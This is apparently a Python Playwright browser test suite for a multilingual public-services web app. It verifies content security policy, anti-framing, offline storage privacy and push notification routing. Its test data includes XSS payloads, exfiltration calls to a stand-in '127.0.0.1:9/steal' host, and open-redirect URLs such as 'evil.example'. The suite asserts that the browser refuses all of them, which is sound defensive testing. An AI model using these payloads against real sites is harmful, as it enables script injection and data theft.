"""What the page must not be able to do, what it must not keep, and what a message from outside may do."""

import asyncio
import json
from collections import defaultdict
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any
from uuid import UUID, uuid4

import httpx
import pytest
from playwright.async_api import CDPSession, Page, expect

from server.core.database import Database
from server.core.settings import Settings
from server.core.words import Words
from server.modules.notifications.public import Notice, Topic, notify
from tests.browser.chromium import Chromium, Visitor, visiting
from tests.browser.conftest import Visit
from tests.browser.screens import BIRTH, until_ready_for_offline
from tests.conftest import SECRET

pytestmark = pytest.mark.browser

ATTACKS = {
    "eval": "eval('window.harmed = 1')",
    "Function": "new Function('window.harmed = 1')()",
    "timer": "setTimeout('window.harmed = 1')",
    "innerHTML": "document.body.innerHTML = '<img src=x onerror=\"window.harmed = 1\">'",
    "inserted": "document.body.insertAdjacentHTML('beforeend', '<svg onload=\"window.harmed = 1\">')",
    "inline script": """
        const script = document.createElement('script')
        script.append('window.harmed = 1')
        document.body.append(script)""",
    "attribute": """
        const button = document.createElement('button')
        button.setAttribute('onclick', 'window.harmed = 1')
        document.body.append(button)
        button.click()""",
    "javascript link": """
        const link = document.createElement('a')
        link.href = 'javascript:window.harmed = 1'
        document.body.append(link)
        link.click()""",
    "foreign script": """
        const script = document.createElement('script')
        script.src = 'http://127.0.0.1:9/evil.js'
        document.body.append(script)""",
    "another policy": "trustedTypes.createPolicy('mine', { createHTML: html => html })",
    "another worker": "await navigator.serviceWorker.register('/assets/evil.js')",
}


SENDING = {
    "fetch": "await fetch('http://127.0.0.1:9/steal')",
    "beacon": "navigator.sendBeacon('http://127.0.0.1:9/steal', 'secret')",
    "picture": "new Image().src = 'http://127.0.0.1:9/steal?secret'",
    "socket": "new WebSocket('ws://127.0.0.1:9/steal')",
    "frame": """
        const frame = document.createElement('iframe')
        frame.src = 'http://127.0.0.1:9/'
        document.body.append(frame)""",
    "form": """
        const form = document.createElement('form')
        form.action = 'http://127.0.0.1:9/'
        document.body.append(form)
        form.submit()""",
}


@pytest.mark.parametrize("tried", [ATTACKS, SENDING], ids=["run", "send"])
async def test_a_foreign_script_can_neither_run_nor_send(visit: Visit, tried: dict[str, str]) -> None:
    visitor = await visit()
    visitor.forgive("Content Security Policy|Trusted(HTML|Script)|violates|127.0.0.1:9/")
    not_refused = [name for name, script in tried.items() if not await refused(visitor.page, script)]
    assert not_refused == []
    assert await visitor.page.evaluate("window.harmed") is None


async def refused(page: Page, script: str) -> list[str]:
    """What the browser said when this was tried: the directive of the policy, or the error thrown."""
    heard: list[str] = await page.evaluate(
        f"""async () => {{
            // Later than this call, for which the browser's tools lift the policy.
            await new Promise(done => setTimeout(done))
            const heard = []
            const violated = new Promise(done => document.addEventListener('securitypolicyviolation', event => {{
                heard.push(event.effectiveDirective)
                done()
            }}))
            try {{ {script} }} catch (cause) {{ heard.push(cause.name) }}
            await Promise.race([violated, new Promise(done => setTimeout(done, heard.length ? 50 : 30_000))])
            return heard
        }}"""
    )
    return heard


async def test_no_other_site_can_frame_us(visit: Visit) -> None:
    visitor = await visit()
    stranger = await visitor.context.new_page()
    visitor.forgive("frame-ancestors|X-Frame-Options|Refused|chrome-error")
    await stranger.set_content(f'<iframe src="{visitor.origin}/"></iframe>')
    await stranger.wait_for_load_state()
    [_, frame] = stranger.frames
    assert await frame.locator("#app").count() == 0


@pytest.mark.long(8)
async def test_what_stays_on_the_phone(visit: Visit, server: str) -> None:
    visitor = await visit(geolocation={"latitude": 9.22, "longitude": 105.18}, permissions=["geolocation"])
    page = visitor.page
    await until_ready_for_offline(page)
    # An ordinary visit, seen by the worker from its first step.
    await page.get_by_role("searchbox").press_sequentially("nhà riêng của tôi", delay=20)
    await expect(page.locator("main > [role=status]")).not_to_have_text("")
    await visitor.open("/places")
    await page.get_by_role("button", name="Dùng vị trí của tôi").click()
    await expect(page.locator(".note")).to_be_visible()
    await visitor.open("/places/32002")
    await page.get_by_role("button", name="Chọn làm nơi của tôi").click()
    await visitor.open(f"/procedures/{BIRTH}")
    await page.locator(".paper").first.click()
    await page.get_by_role("button", name="Lưu về máy").click()
    await expect(page.get_by_role("button", name="Đã lưu")).to_be_visible()
    # What was ticked is written once the phone has a moment, which the saving need not have waited for.
    async with asyncio.timeout(60):
        while not (await stored(page))["checklists"]:
            await asyncio.sleep(0.05)
    await page.evaluate("fetch('/api/notifications/key')")
    await visitor.open("/notifications")

    assert await visitor.context.cookies() == []
    paths = [url.removeprefix(visitor.origin) for url in await cached(page)]
    assert "/api/catalogue/outline" in paths
    api = [path for path in paths if path.startswith("/api/")]
    public = (
        "/api/catalogue/",
        "/api/places/",
        "/api/feedback/categories",
        *(f"/api/news/{it}" for it in ("alerts", "articles", "latest", "files")),
    )
    assert not [path for path in api if not path.startswith(public)]
    # Neither what was typed nor where the person stood.
    assert not [path for path in api if any(name in path for name in ("q=", "lat=", "lon="))]
    async with httpx.AsyncClient(base_url=server, timeout=60) as client:
        for path in api:
            assert "no-store" not in (await client.get(path)).headers["cache-control"], path

    # Warnings are the same for everybody.
    mine = {"home", "recent", "language", "theme", "text-size", "alerts"}
    assert set(await page.evaluate("Object.keys(localStorage)")) <= mine
    assert await page.evaluate("Object.keys(sessionStorage)") == []
    base = await stored(page)
    assert set(base) == {"saved", "checklists", "device", "results"}
    assert base["results"] == []
    assert [sorted(one) for one in base["saved"]] == [["at", "code", "procedure"]]
    assert [sorted(one) for one in base["checklists"]] == [["cases", "code", "ticked"]]
    assert base["device"] == []


async def cached(page: Page) -> list[str]:
    urls: list[str] = await page.evaluate(
        """async () => {
            const boxes = await Promise.all((await caches.keys()).map(name => caches.open(name)))
            return (await Promise.all(boxes.map(box => box.keys()))).flat().map(request => request.url)
        }"""
    )
    return urls


async def stored(page: Page) -> dict[str, list[dict[str, Any]]]:
    """All of IndexedDB, store by store; every store is empty where there is no database yet."""
    content: dict[str, list[dict[str, Any]]] = await page.evaluate(
        """async () => {
            const answer = asked => new Promise(done => { asked.onsuccess = () => done(asked.result) })
            const [own, ...others] = await indexedDB.databases()
            if (!own) return {}
            const { name } = own
            if (others.length) throw new Error(others.map(one => one.name))
            const base = await answer(indexedDB.open(name))
            const stores = [...base.objectStoreNames]
            const rows = await Promise.all(stores.map(one => answer(base.transaction(one).objectStore(one).getAll())))
            base.close()
            return Object.fromEntries(stores.map((one, i) => [one, rows[i]]))
        }"""
    )
    return defaultdict(list, content)


def letter(resident_id: str) -> Notice:
    word = Words("Tin", "News", "ដំណឹង")
    told = {"topic": Topic.STEPS, "subject": "x", "title": word, "body": word, "plain": word, "path": "/inbox"}
    return Notice(key=str(uuid4()), resident_id=UUID(resident_id), **told)  # type: ignore[arg-type]


Deliver = Callable[[dict[str, Any] | str], Awaitable[None]]
NOTE_WHAT_IS_ASKED = """
    self.asked = {}
    const really = self.fetch
    self.fetch = (url, how) => ((self.asked[url] = new Headers(how?.headers).get('By-Itself')), really(url, how))
"""
"""What the worker asks from now on, and whether it says that nobody has touched anything."""
IS_SHOWN = """async title => {
    const registration = await navigator.serviceWorker.ready
    const end = Date.now() + 4000
    while (Date.now() < end) {
        if ((await registration.getNotifications()).some(one => one.title === title)) return true
        await new Promise(done => setTimeout(done, 50))
    }
}"""


class TestMessages:
    """Handed to the worker by the browser's tools, for Chromium's own push service is out of reach here."""

    @pytest.fixture
    async def visitor(self, whole_chromium: Chromium, server: str) -> AsyncIterator[Visitor]:
        async with visiting(whole_chromium, server, permissions=["notifications"]) as visitor:
            await visitor.open("/about")
            await visitor.page.evaluate("navigator.serviceWorker.ready")
            # The receipt for a message that our server never sent.
            visitor.forgive("404|400")
            yield visitor

    @pytest.fixture
    async def deliver(self, visitor: Visitor) -> Deliver:
        devtools: CDPSession = await visitor.context.new_cdp_session(visitor.page)
        known: asyncio.Future[str] = asyncio.get_running_loop().create_future()

        def learn(event: dict[str, Any]) -> None:
            for one in event["registrations"]:
                if not known.done():
                    known.set_result(one["registrationId"])

        devtools.on("ServiceWorker.workerRegistrationUpdated", learn)
        await devtools.send("ServiceWorker.enable")
        registration = await asyncio.wait_for(known, 60)

        async def deliver(message: dict[str, Any] | str) -> None:
            data = message if isinstance(message, str) else json.dumps({"web_push": 8030, "notification": message})
            where = {"origin": visitor.origin, "registrationId": registration}
            title = message["title"] if isinstance(message, dict) else await visitor.page.locator(".brand").inner_text()
            # The tool's message is lost when the browser is just putting the worker to sleep.
            for _ in range(15):
                await devtools.send("ServiceWorker.deliverPushMessage", {**where, "data": data})
                if await visitor.page.evaluate(IS_SHOWN, title):
                    break

        return deliver

    async def shown(self, page: Page, title: str) -> dict[str, Any]:
        """The notification with this title, once it stands on the screen."""
        shown: dict[str, Any] = await page.evaluate(
            """async title => {
                const registration = await navigator.serviceWorker.ready
                const end = Date.now() + 60_000
                while (Date.now() < end) {
                    const found = (await registration.getNotifications()).find(one => one.title === title)
                    if (found) return { body: found.body, lang: found.lang, tag: found.tag, icon: found.icon }
                    await new Promise(done => setTimeout(done, 50))
                }
                throw new Error(`never shown: ${title}`)
            }""",
            title,
        )
        return shown

    async def tap(self, visitor: Visitor, title: str) -> None:
        """No tool of the browser taps a notification, so the worker is told that somebody did."""
        [worker] = visitor.context.service_workers
        await worker.evaluate(
            """async title => {
                const notification = (await registration.getNotifications()).find(one => one.title === title)
                dispatchEvent(new NotificationEvent('notificationclick', { notification }))
            }""",
            title,
        )

    @pytest.mark.parametrize(
        ("language", "title", "body"),
        [
            ("vi", "Hồ sơ đã có kết quả", "Mời bạn đến Ủy ban nhân dân phường nhận giấy khai sinh."),
            ("km", "ការជូនដំណឹងសាកល្បង", "ឧបករណ៍នេះទទួលបានការជូនដំណឹង។"),
        ],
    )
    async def test_are_shown_in_their_own_words(
        self, visitor: Visitor, deliver: Deliver, language: str, title: str, body: str
    ) -> None:
        await deliver({"title": title, "body": body, "lang": language, "tag": "news", "navigate": "/saved"})
        shown = await self.shown(visitor.page, title)
        assert shown == {"body": body, "lang": language, "tag": "news", "icon": f"{visitor.origin}/icon-192.png"}
        await self.tap(visitor, title)
        await expect(visitor.page).to_have_url(f"{visitor.origin}/saved")

    async def test_of_ones_own_are_counted_on_the_icon_while_the_app_is_closed(
        self, visitor: Visitor, deliver: Deliver, server: str, database_url: str
    ) -> None:
        from tests.browser.test_sign_in import new_number, sign_in  # which looks at what is stored, as we do

        await sign_in(visitor.page, new_number())
        me = await visitor.page.evaluate(
            "fetch('/api/identity/session').then(reply => reply.json()).then(it => it.caller.id)"
        )
        database = Database(Settings(database_url=database_url, secret_key=SECRET, base_url=server))
        async with database.transaction() as session:
            await notify(session, [letter(me) for _ in range(3)])
        await database.close()
        [worker] = visitor.context.service_workers
        await worker.evaluate("navigator.setAppBadge = async count => void (self.badge = count)")
        await worker.evaluate(NOTE_WHAT_IS_ASKED)
        letter_of_mine = {"title": "Có tin mới", "body": "", "navigate": f"/inbox/{uuid4()}?open"}
        await deliver(letter_of_mine | {"data": {"message_id": "mine"}})
        async with asyncio.timeout(60):
            while await worker.evaluate("self.badge") != 3:
                await asyncio.sleep(0.05)
        # Nobody has touched anything: that is no use of their session.
        asked = await worker.evaluate("self.asked")
        assert asked["/api/notifications/messages/mine/shown"] == "1"
        assert asked["/api/notifications?limit=1"] == "1"
        # What is announced to everybody is nobody's own.
        await worker.evaluate("self.badge = 'as before'")
        await deliver({"title": "Cảnh báo bão", "body": "", "navigate": "/warnings/1"})
        await self.shown(visitor.page, "Cảnh báo bão")
        assert await worker.evaluate("self.badge") == "as before"

    async def test_lead_nowhere_but_to_our_own_screens(self, visitor: Visitor, deliver: Deliver) -> None:
        for navigate in (
            "https://evil.example/login",
            "//evil.example/",
            "/\\evil.example",
            "javascript:alert(1)",
            "/api/catalogue/outline",
        ):
            await visitor.open("/about")
            await deliver({"title": f"Bấm vào đây: {navigate}", "body": "", "navigate": navigate})
            await self.shown(visitor.page, f"Bấm vào đây: {navigate}")
            await self.tap(visitor, f"Bấm vào đây: {navigate}")
            await expect(visitor.page).to_have_url(f"{visitor.origin}/")

    async def test_that_cannot_be_read_are_shown_all_the_same(self, visitor: Visitor, deliver: Deliver) -> None:
        # A browser that is shown nothing takes the permission away.
        await deliver("không phải JSON")
        await self.shown(visitor.page, await visitor.page.locator(".brand").inner_text())
